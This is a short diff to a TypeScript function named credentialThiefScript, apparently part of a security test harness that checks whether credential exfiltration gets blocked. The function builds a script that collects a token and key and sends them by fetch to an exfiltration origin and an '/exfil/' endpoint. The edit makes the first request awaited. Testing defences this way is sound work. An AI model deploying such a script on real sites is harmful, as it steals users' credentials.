@@ -58,7 +58,9 @@ export function credentialThiefScript(options: { otherUid: string; exfiltrationO
   const dump = JSON.stringify({ found, got });
   console.error('stolen ' + dump);
   console.error('stolen-b64 ' + btoa(unescape(encodeURIComponent(token + ' ' + key))));
-  fetch(${JSON.stringify(options.exfiltrationOrigin)} + '/' + btoa(unescape(encodeURIComponent(token + ' ' + key))) + '?d=' + encodeURIComponent(dump.slice(0, 1500))).catch(() => undefined);
+  // Awaited before the dump is written: readiness waits for the page to be quiet after that write, so the blocked
+  // request is in the report whatever the machine's load (it was a race with the capture, which now starts earlier).
+  await fetch(${JSON.stringify(options.exfiltrationOrigin)} + '/' + btoa(unescape(encodeURIComponent(token + ' ' + key))) + '?d=' + encodeURIComponent(dump.slice(0, 1500))).catch(() => undefined);
   fetch(API + '/exfil/' + encodeURIComponent(key) + '?t=' + encodeURIComponent(token)).catch(() => undefined);
   const out = document.createElement('pre');
   out.id = 'stolen';
